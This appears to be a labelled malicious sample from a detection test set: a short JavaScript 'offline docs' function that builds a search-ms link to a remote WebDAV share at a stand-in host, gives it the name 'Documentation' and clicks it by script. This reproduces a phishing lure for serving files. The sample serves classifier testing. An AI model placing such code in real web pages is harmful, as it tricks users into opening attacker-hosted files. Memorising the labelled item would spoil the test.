// expect: malicious
// source: blind set 21's docs search widget whose "offline docs" button opens Explorer on a remote WebDAV share
// (the 2023-2024 search-ms campaigns); written here
const SHARE = ['\\\\', 'docs-share.example', '@SSL', '\\DavWWWRoot', '\\packs'].join('');
export function openOffline(query) {
  const a = document.createElement('a');
  a.href = 'search-ms:query=' + encodeURIComponent(query) +
    '&crumb=location:' + encodeURIComponent(SHARE) + '&displayname=Documentation';
  document.body.appendChild(a);
  a.click();
}
